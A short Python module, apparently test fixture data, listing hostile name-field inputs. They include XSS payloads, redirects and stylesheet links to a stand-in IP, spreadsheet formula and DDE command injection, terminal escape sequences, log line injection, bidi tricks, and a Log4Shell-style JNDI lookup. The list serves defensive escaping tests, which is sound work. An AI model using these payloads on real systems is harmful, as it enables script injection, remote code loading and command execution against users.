"""What an attacker writes where they may choose a name: to act on a terminal, a page or a table."""

from __future__ import annotations

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "--></style></title></pre></textarea><svg onload=alert(1)>",
    "<a href=javascript:alert(1)>look</a>",
    "javascript:alert(1)",
    "<meta http-equiv=refresh content=0;url=http://198.51.100.9/>",
    "<link rel=stylesheet href=//198.51.100.9/x.css><base href=//198.51.100.9/>",
    '\' autofocus onfocus=alert(1) x=\'" style="position:fixed;inset:0" onmouseover="alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script>",
    '=HYPERLINK("http://198.51.100.9","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "line one\r\nline two\n- user: arn:aws:iam::111122223333:user/victim",
    "\u202egpj.exe \u2066hidden\u2069 \u200b",
    "{{7*7}} ${jndi:ldap://x} {0} %s",
    "quote\" and ' and ` and \\",
    "NUL\x00 and \x9b31m",
    "# no comment: yes",
    "unbroken-" + "x" * 2000,
    "\ud800 alone",
]
